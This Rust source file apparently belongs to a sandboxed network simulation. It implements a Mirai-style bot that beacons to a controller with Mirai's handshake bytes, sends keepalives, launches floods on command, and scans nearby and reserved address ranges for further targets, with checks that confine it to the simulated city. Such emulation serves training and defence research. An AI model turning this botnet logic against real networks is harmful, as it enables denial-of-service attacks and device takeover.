//! The bot: says hello to its controller, keeps alive, looks for neighbours, and attacks when it is told to.

use crate::{
    city::{cell::Inside, plan::Subnet, world::World},
    clock,
    error::Result,
    mirai::{
        controller::{Word, listen},
        flood,
        program::Orders,
        scanner::Scan,
    },
};
use std::{
    io::Write,
    net::{Ipv4Addr, SocketAddr, TcpStream},
    sync::Arc,
    thread,
    time::{Duration, Instant},
};

/// A bot in a device.
#[derive(Clone)]
pub(crate) struct Bot {
    pub(crate) world: Arc<World>,
    /// The device's number.
    pub(crate) device: usize,
    /// Its address.
    pub(crate) address: Ipv4Addr,
    /// Where the orders come from.
    pub(crate) orders: Orders,
    /// How long it waits before it looks for neighbours; not at all where unset.
    pub(crate) scan_after: Option<u64>,
}

impl Bot {
    /// Runs until the device is restarted. Refuses outside of the city.
    pub(crate) fn run(&self) -> Result<()> {
        let inside = Inside::prove(&self.world.token)?;
        inside.target(*self.orders.controller.ip())?;
        if let Some(after) = self.scan_after {
            let bot = self.clone();
            let _ = thread::Builder::new().name("bot/scan".into()).spawn(move || {
                clock::pause(after);
                let _ = scan(&bot.world, bot.device);
            });
        }
        while !self.stopped() {
            // The bot connects anew for as long as it lives, as Mirai does every few seconds.
            if let Ok(stream) =
                TcpStream::connect_timeout(&SocketAddr::V4(self.orders.controller), Duration::from_secs(1))
            {
                self.obey(stream);
            }
            clock::pause(700);
        }
        Ok(())
    }

    fn stopped(&self) -> bool {
        self.world.is_repaired(self.device)
    }

    fn obey(&self, mut stream: TcpStream) {
        let every = Duration::from_millis(self.world.plan.timing.keep_alive);
        let hello = [0, 0, 0, 1, 4, b'a', b'r', b'm', b'7'];
        if stream.write_all(&hello).is_err()
            || stream.set_read_timeout(Some(Duration::from_millis(100))).is_err()
        {
            return;
        }
        let mut pinged = Instant::now();
        while !self.stopped() {
            match listen(&mut stream) {
                Word::Attack(order) => {
                    let bot = self.clone();
                    let _ = thread::Builder::new()
                        .name("bot/flood".into())
                        .spawn(move || flood::run(&bot.world, bot.device, bot.address, &order));
                }
                Word::Gone => return,
                Word::Ping | Word::Nothing => {}
            }
            if pinged.elapsed() >= every {
                pinged = Instant::now();
                if stream.write_all(&[0, 0]).is_err() {
                    return;
                }
            }
        }
    }
}

/// A bot looks for neighbours in the street, and for others outside.
pub(crate) fn scan(world: &Arc<World>, device: usize) -> Result<()> {
    let plan = &world.plan;
    let Some(address) = plan.devices.get(device).map(|device| device.address) else { return Ok(()) };
    let outside = Subnet { base: Ipv4Addr::new(198, 18, 0, 0), prefix: 15 };
    let scan = Scan {
        from: address,
        into: vec![plan.street, outside, plan.street],
        device: Some(device),
        purpose: format!("bot {device}"),
    };
    let shared = Arc::clone(world);
    scan.run(world, move || shared.is_repaired(device) || shared.infected().len() >= shared.plan.most_bots)
}
